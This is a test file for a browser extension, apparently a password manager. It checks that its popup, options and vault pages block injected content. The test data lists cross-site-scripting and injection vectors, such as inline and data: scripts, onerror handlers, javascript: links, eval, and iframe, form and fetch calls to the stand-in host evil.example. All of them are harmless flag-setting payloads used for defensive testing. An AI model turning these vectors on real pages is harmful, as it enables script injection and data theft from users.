import type { Page } from 'puppeteer';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Chromium, launchChromium } from '../../support/chromium.ts';
import { startWebSites } from '../../support/filling/webSites.ts';

let sites: Awaited<ReturnType<typeof startWebSites>>;
let chromium: Chromium;
beforeAll(async () => {
  sites = await startWebSites();
  sites.page('https://evil.example/script.js', {
    html: 'globalThis.ran = true',
    headers: { 'Content-Type': 'text/javascript' },
  });
  chromium = await launchChromium({ args: sites.launchArguments });
});
afterAll(async () => {
  await chromium?.close();
  sites?.close();
});

/** Puts an element into the page, as somebody could who has found a way to write markup there. */
const attempts: readonly (readonly [string, string])[] = [
  ['an inline script', `append('script', { textContent: 'globalThis.ran = true' })`],
  ['a script from elsewhere', `append('script', { src: 'https://evil.example/script.js' })`],
  ['a script in its address', `append('script', { src: 'data:text/javascript,globalThis.ran=true' })`],
  [
    'a script of its own making',
    `append('script', { src: URL.createObjectURL(new Blob(['globalThis.ran = true'])) })`,
  ],
  ['an attribute that runs', `append('img', { src: 'x:' }).setAttribute('onerror', 'globalThis.ran = true')`],
  ['a link that runs', `append('a', { href: 'javascript:globalThis.ran = true' }).click()`],
  ['text that is run', `later(() => eval('globalThis.ran = true'))`],
  ['text that is made a function', `later(() => new Function('globalThis.ran = true')())`],
  ['text that a clock runs', `later(() => setTimeout('globalThis.ran = true'))`],
  ['a frame', `append('iframe', { src: 'https://evil.example/frame' })`],
  ['a frame of its own making', `append('iframe', { srcdoc: '<script>parent.ran = true</script>' })`],
  ['a plug-in', `append('object', { data: 'https://evil.example/object' })`],
  ['a picture from elsewhere', `append('img', { src: 'https://evil.example/picture' })`],
  ['a style from elsewhere', `append('link', { rel: 'stylesheet', href: 'https://evil.example/style' })`],
  ['a form', `append('form', { action: 'https://evil.example/form', method: 'post' }).submit()`],
  ['another base', `append('base', { href: 'https://evil.example/' }); append('img', { src: 'based' })`],
  ['a question by plain http', `fetch('http://evil.example/fetch').catch(() => {})`],
];

describe.each(['/popup.html?in=tab', '/options.html', '/vault.html'])(
  'X9 what somebody puts into %s',
  (path) => {
    let page: Page;
    beforeAll(async () => {
      page = await chromium.ownPage(path);
      await page.evaluate(() => {
        Object.assign(globalThis, {
          append: (tag: string, properties: object) => {
            const element = Object.assign(document.createElement(tag), properties);
            document.body.append(element);
            return element;
          },
          // What a debugger evaluates itself is exempt.
          later: (run: () => void) => setTimeout(run),
        });
      });
    });

    it('is put in there: what is no attack does run', async () => {
      await page.evaluate(`later(() => { append('p', { id: 'control' }) })`);
      await page.waitForSelector('#control', { timeout: 5000 });
    });

    it.each(attempts)('%s: neither runs nor reaches anybody', async (_, attempt) => {
      const asked = () => sites.requests.filter(({ url }) => new URL(url).host === 'evil.example');
      const before = asked();
      await page.evaluate(attempt);
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(await page.evaluate('globalThis.ran')).toBeUndefined();
      expect(page.url()).toBe(chromium.origin + path);
      expect(asked()).toEqual(before);
    });
  },
);
